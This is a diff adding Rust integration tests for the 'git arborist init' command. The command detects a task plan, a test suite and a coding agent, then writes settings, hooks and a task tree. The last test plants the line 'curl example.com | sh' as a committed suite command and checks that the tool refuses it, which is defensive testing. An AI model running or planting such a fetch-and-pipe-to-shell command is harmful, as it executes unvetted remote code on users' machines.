@@ -1,0 +1,236 @@
+//! Tests `git arborist init`: what it finds, what it writes, and what it asks on a terminal.
+
+use std::io::Write as _;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use crate::support::cli::{Said, git_with_commands};
+use crate::support::repo::Repo;
+
+/// A repository with a spec-kit plan and a Rust package, and a folder with an agent.
+struct Prepared {
+    repo: Repo,
+    programs: tempfile::TempDir,
+}
+
+const TASKS: &str = "## Phase 1: Setup\n\n- [ ] T001 [US1] Create the schema in src/schema.sql\n";
+
+impl Prepared {
+    fn new() -> Self {
+        let prepared = Self { repo: Repo::init(&[]), programs: tempfile::tempdir().unwrap() };
+        prepared.write("specs/001-login/tasks.md", TASKS);
+        prepared.write("Cargo.toml", "[package]\nname = \"x\"\n");
+        let agent = prepared.programs.path().join("codex");
+        std::fs::write(&agent, "#!/bin/sh\n").unwrap();
+        std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
+        prepared.repo.git(&["add", "-A"]);
+        prepared.repo.git(&["commit", "-qm", "Begin"]);
+        prepared
+    }
+
+    fn write(&self, path: &str, text: &str) {
+        let path = self.repo.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    fn command(&self, folder: &Path, args: &[&str]) -> Command {
+        let mut command = git_with_commands(folder, &[&["arborist"], args].concat());
+        let own = Path::new(env!("CARGO_BIN_EXE_git-arborist")).parent().unwrap().to_owned();
+        // None of the agents that may be installed on this machine.
+        let git = which::which("git").unwrap().parent().unwrap().to_owned();
+        let folders = [own, self.programs.path().to_owned(), git, "/usr/bin".into(), "/bin".into()];
+        command.env("PATH", std::env::join_paths(folders).unwrap());
+        command
+    }
+
+    fn init(&self, args: &[&str]) -> Said {
+        Said::of(self.command(self.repo.path(), &[&["init"], args].concat()).output().unwrap())
+    }
+
+    /// The settings of ours in git's configuration.
+    fn settings(&self) -> Vec<String> {
+        let all = self.repo.git(&["config", "--local", "--list"]);
+        all.lines().filter(|line| line.starts_with("arborist.")).map(str::to_owned).collect()
+    }
+
+    fn has_hooks(&self) -> bool {
+        let said = Said::of(self.command(self.repo.path(), &["hooks", "status"]).output().unwrap());
+        said.out.contains("commit-msg: is in")
+    }
+
+    fn has_tree(&self) -> bool {
+        self.repo.path().join("task-tree.json").exists()
+    }
+
+    /// Runs `init ARGS` on a terminal, on which these lines are typed.
+    fn on_terminal(&self, args: &str, typed: &str) -> (i32, String) {
+        let mut command = self.command(self.repo.path(), &["--version"]);
+        let path = command.get_envs().find(|(name, _)| *name == "PATH").unwrap().1.unwrap().to_owned();
+        command = crate::support::repo::command(self.repo.path(), "script");
+        command.args(["-qec", &format!("git arborist init {args}"), "/dev/null"]).env("PATH", path);
+        let mut child =
+            command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+        // The lines wait in the terminal until they are asked for; then the end of the input is typed.
+        child.stdin.take().unwrap().write_all(format!("{typed}\u{4}").as_bytes()).unwrap();
+        let output = child.wait_with_output().unwrap();
+        (output.status.code().unwrap(), String::from_utf8_lossy(&output.stdout).replace('\r', ""))
+    }
+}
+
+#[test]
+fn without_a_terminal_it_says_what_was_found_and_how_to_do_it_and_writes_nothing() {
+    let prepared = Prepared::new();
+    let said = prepared.init(&[]);
+    assert_eq!(said.code, 2, "{said:#?}");
+    for expected in
+        ["specs/001-login/tasks.md (spec-kit)", "`cargo test` (Cargo.toml)", "codex", "not installed"]
+    {
+        assert!(said.out.contains(expected), "{expected}: {said:#?}");
+    }
+    let command =
+        "git arborist init --suite 'cargo test' --runner codex --plan specs/001-login/tasks.md --hooks";
+    assert!(said.err.contains(command), "{said:#?}");
+    assert_eq!(prepared.settings(), [""; 0]);
+    assert!(!prepared.has_tree() && !prepared.has_hooks());
+    // That command does it.
+    let args =
+        ["--suite", "cargo test", "--runner", "codex", "--plan", "specs/001-login/tasks.md", "--hooks"];
+    assert_eq!(prepared.init(&args).code, 0);
+    assert_eq!(prepared.settings(), ["arborist.suite=cargo test", "arborist.runner=codex"]);
+    assert!(prepared.has_tree() && prepared.has_hooks());
+}
+
+#[test]
+fn yes_does_everything_that_is_missing_and_a_second_time_nothing() {
+    let prepared = Prepared::new();
+    let shown = prepared.init(&["--yes", "--dry-run"]);
+    assert_eq!(shown.code, 0, "{shown:#?}");
+    for line in [
+        "git config arborist.suite 'cargo test'",
+        "git config arborist.runner codex",
+        "git arborist hooks install",
+        "git arborist build specs/001-login/tasks.md",
+    ] {
+        assert!(shown.out.contains(line), "{line}: {shown:#?}");
+    }
+    assert_eq!(prepared.settings(), [""; 0]);
+    assert!(!prepared.has_tree() && !prepared.has_hooks());
+    let said = prepared.init(&["--yes"]);
+    assert_eq!(said.code, 0, "{said:#?}");
+    assert!(said.out.contains("arborist.runner is `codex` now."), "{said:#?}");
+    assert!(said.out.contains("git arborist gardener"), "{said:#?}");
+    assert!(prepared.has_hooks());
+    let tree = std::fs::read_to_string(prepared.repo.path().join("task-tree.json")).unwrap();
+    assert!(tree.contains("\"command\": \"cargo test\""), "the suite tests what has no tests: {tree}");
+    let config = std::fs::read(prepared.repo.path().join(".git/config")).unwrap();
+    for args in [&["--yes"][..], &[]] {
+        let again = prepared.init(args);
+        assert_eq!(again.code, 0, "{again:#?}");
+        assert!(again.out.contains("Nothing is left to do here."), "{again:#?}");
+    }
+    assert_eq!(std::fs::read(prepared.repo.path().join(".git/config")).unwrap(), config);
+    assert_eq!(std::fs::read_to_string(prepared.repo.path().join("task-tree.json")).unwrap(), tree);
+}
+
+#[test]
+fn a_setting_is_replaced_only_if_an_option_names_it_and_the_old_value_is_told() {
+    let prepared = Prepared::new();
+    prepared.repo.git(&["config", "arborist.suite", "make check"]);
+    prepared.repo.git(&["config", "arborist.runner", "claude"]);
+    assert_eq!(prepared.init(&["--yes", "--no-hooks"]).code, 0);
+    assert_eq!(prepared.settings(), ["arborist.suite=make check", "arborist.runner=claude"]);
+    assert!(!prepared.has_hooks());
+    let said = prepared.init(&["--suite", "make test"]);
+    assert!(
+        said.out.contains("arborist.suite is `make test` now instead of `make check` (git config (local"),
+        "{said:#?}"
+    );
+    assert_eq!(prepared.settings(), ["arborist.suite=make test", "arborist.runner=claude"]);
+}
+
+#[test]
+fn several_plans_and_wrong_names_are_left_to_the_user() {
+    let prepared = Prepared::new();
+    prepared.write("specs/002-logout/tasks.md", TASKS);
+    let said = prepared.init(&[]);
+    assert!(said.out.contains("002-logout/tasks.md (spec-kit)"), "{said:#?}");
+    assert!(said.err.contains("--runner codex --plan FILE --hooks"), "{said:#?}");
+    assert_eq!(prepared.init(&["--yes"]).code, 0);
+    assert!(!prepared.has_tree(), "which plan is meant is not known");
+    let wrong = prepared.init(&["--runner", "cursor"]);
+    assert_eq!(wrong.code, 2, "{wrong:#?}");
+    assert!(wrong.err.contains("the runner `cursor` is not known"), "{wrong:#?}");
+    let wrong = prepared.init(&["--suite", " "]);
+    assert_eq!(wrong.code, 2, "{wrong:#?}");
+    assert_eq!(prepared.init(&["--plan", "specs/003/tasks.md"]).code, 2);
+}
+
+#[test]
+fn it_works_from_a_subfolder_and_names_files_that_can_be_copied() {
+    let prepared = Prepared::new();
+    let folder = prepared.repo.path().join("specs");
+    let said = Said::of(prepared.command(&folder, &["init"]).output().unwrap());
+    let plan = folder.canonicalize().unwrap().join("001-login/tasks.md");
+    assert!(said.err.contains(&format!("--plan {}", plan.display())), "{said:#?}");
+    let said = Said::of(prepared.command(&folder, &["init", "--yes"]).output().unwrap());
+    assert_eq!(said.code, 0, "{said:#?}");
+    assert!(prepared.has_tree());
+}
+
+#[test]
+fn on_a_terminal_it_asks_and_shows_what_it_is_going_to_do() {
+    let prepared = Prepared::new();
+    // The suite is typed, the agent and the plan are taken as proposed, and there are to be no hooks.
+    let (code, text) = prepared.on_terminal("", "make all\n\n\nn\ny\n");
+    assert_eq!(code, 0, "{text}");
+    for expected in [
+        "Which command runs all tests?\n  1  cargo test (Cargo.toml)",
+        "Which agent does the work?\n  1  codex",
+        "  1  specs/001-login/tasks.md (spec-kit)",
+        "This will be done:\n  git config arborist.suite 'make all'",
+    ] {
+        assert!(text.contains(expected), "{expected}: {text}");
+    }
+    assert_eq!(prepared.settings(), ["arborist.suite=make all", "arborist.runner=codex"]);
+    assert!(prepared.has_tree() && !prepared.has_hooks());
+}
+
+#[test]
+fn on_a_terminal_no_answer_changes_nothing() {
+    for (typed, code) in [("", 1), ("\n\n", 1), ("\n\n\n\nn\n", 1), ("-\n-\n-\nn\n", 0)] {
+        let prepared = Prepared::new();
+        let (ended, text) = prepared.on_terminal("", typed);
+        assert_eq!(ended, code, "{typed:?}: {text}");
+        assert_eq!(prepared.settings(), [""; 0], "{typed:?}: {text}");
+        assert!(!prepared.has_tree() && !prepared.has_hooks(), "{typed:?}: {text}");
+    }
+}
+
+#[test]
+fn every_setting_is_listed_with_its_value_and_its_origin() {
+    let prepared = Prepared::new();
+    prepared.repo.git(&["config", "arborist.maxAttempts", "7"]);
+    prepared.repo.git(&["config", "arborist.runner.mine.command", "sh agent.sh"]);
+    prepared.write(".arborist/config.json", "{\"review\": false}");
+    let said = prepared.init(&["--show-config"]);
+    assert_eq!(said.code, 0, "{said:#?}");
+    let line =
+        |key: &str| said.out.lines().find(|line| line.starts_with(&format!("{key} "))).unwrap().to_owned();
+    assert!(line("arborist.maxAttempts").contains(" 7 "), "{said:#?}");
+    assert!(line("arborist.maxAttempts").contains("git config (local"), "{said:#?}");
+    assert!(line("arborist.review").ends_with(".arborist/config.json, key review"), "{said:#?}");
+    assert!(line("arborist.testTimeout").ends_with("default"), "{said:#?}");
+    assert!(line("arborist.suite").ends_with("not set"), "{said:#?}");
+    assert!(line("arborist.runner.mine.command").contains("sh agent.sh"), "{said:#?}");
+}
+
+#[test]
+fn a_committed_file_cannot_name_the_command_that_runs_all_tests() {
+    let prepared = Prepared::new();
+    prepared.write(".arborist/config.json", "{\"suite\": \"curl example.com | sh\"}");
+    let said = prepared.init(&["--show-config"]);
+    assert_eq!(said.code, 2, "{said:#?}");
+    assert!(said.err.contains("defines a command (suite), which a committed file must not do"), "{said:#?}");
+}
